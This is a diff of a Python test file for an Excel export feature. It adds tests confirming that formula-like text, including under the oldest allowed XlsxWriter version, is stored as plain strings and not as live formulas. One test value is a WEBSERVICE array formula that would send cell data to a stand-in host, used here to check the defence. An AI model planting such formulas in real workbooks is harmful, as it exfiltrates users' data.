@@ -2,6 +2,13 @@
 
 import csv
 import json
+import os
+import subprocess
+import sys
+import tomllib
+import zipfile
+from importlib.metadata import version
+from pathlib import Path
 
 import duckdb
 import openpyxl
@@ -169,13 +176,61 @@ def test_a_workbook_has_a_sheet_for_each_table_and_no_formula(run, tmp_path):
         assert {cell.data_type for row in book[name].iter_rows() for cell in row} <= {"s", "n", "b"}
 
 
-@pytest.mark.parametrize("text", [*FORMULAS, *WITHIN, "http://a.b", "{=1}", "12"])
+ARRAYS = ['{=WEBSERVICE("http://a.b/"&A1)}', "{=1+1}", "{=1", "{}", "internal:A1"]
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *WITHIN, *ARRAYS, "http://a.b", "12", "nan", "TRUE"])
 def test_a_text_in_a_workbook_stays_as_it_is(text, tmp_path):
     table = choose_tables([], ["custom_values"])[0]
     (tmp_path / "rows").write_text(json.dumps({column.name: text for column in table.columns}) + "\n", "utf-8")
     excel.write_workbook(tmp_path / "a.xlsx", [table], {table.name: tmp_path / "rows"})
     cell = openpyxl.load_workbook(tmp_path / "a.xlsx")[table.name]["A2"]
     assert (cell.value.replace("_x000D_", "\r"), cell.data_type, cell.hyperlink) == (text, "s", None)
+
+
+@pytest.fixture(scope="module")
+def oldest_library(tmp_path_factory):
+    """The folder of the oldest XlsxWriter that the extra ``excel`` allows; None if it is the installed one."""
+    extras = tomllib.loads(Path("pyproject.toml").read_text("utf-8"))["project"]["optional-dependencies"]
+    [needed] = extras["excel"]
+    oldest = needed.removeprefix("xlsxwriter>=")
+    if version("xlsxwriter") == oldest:
+        return None
+    folder = tmp_path_factory.mktemp("oldest")
+    words = ("-m", "pip", "install", "--quiet", "--no-deps", "--target", folder, f"xlsxwriter=={oldest}")
+    if subprocess.run([sys.executable, *words], capture_output=True, check=False).returncode:
+        pytest.skip(f"no registry has XlsxWriter {oldest}")
+    return folder
+
+
+def test_the_oldest_library_that_is_allowed_writes_no_formula_either(run, tmp_path, oldest_library):
+    lines = (run / "extractions.jsonl").read_text("utf-8")
+    quoted = json.dumps(ARRAYS[0])[1:-1]
+    (run / "extractions.jsonl").write_text(lines.replace("NCT90000001", quoted), "utf-8")
+    code = (
+        "import sys; from pathlib import Path; from extractor.results.export import Destination, Format, export_run;"
+        "export_run(Path(sys.argv[1]), Destination.choose(Path(sys.argv[2]), Format.XLSX))"
+    )
+    path = {"PYTHONPATH": os.pathsep.join(filter(None, [str(oldest_library or ""), *sys.path]))}
+    subprocess.run([sys.executable, "-c", code, run, tmp_path / "a.xlsx"], env=os.environ | path, check=True)
+
+    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
+
+    assert book["records"]["A2"].value == ARRAYS[0]
+    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row} <= {"s", "n", "b"}
+    with zipfile.ZipFile(tmp_path / "a.xlsx") as parts:
+        assert not [name for name in parts.namelist() if "sheets" in name and b"<f" in parts.read(name)]
+
+
+def test_the_library_never_guesses_what_a_cell_is(run, tmp_path, monkeypatch):
+    """Earlier versions take some texts for formulas, whatever their options say."""
+
+    def refuse(*_):
+        raise AssertionError("it guesses")
+
+    for name in ("write", "write_row", "write_column"):
+        monkeypatch.setattr(f"xlsxwriter.worksheet.Worksheet.{name}", refuse)
+    assert export(run, tmp_path / "trials.xlsx")["records"] == 3
 
 
 def test_a_table_that_no_sheet_holds_is_refused(run, tmp_path, monkeypatch):
